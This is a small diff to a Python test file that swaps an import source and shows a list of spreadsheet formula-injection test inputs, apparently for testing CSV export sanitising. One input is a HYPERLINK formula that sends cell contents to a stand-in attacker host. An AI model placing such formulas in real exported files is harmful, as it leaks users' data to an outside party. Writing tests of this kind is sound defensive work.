@@ -16,7 +16,7 @@ import time
 import pytest
 import sqlalchemy as sa
 
-from conftest import ROOT
+from paths import ROOT
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
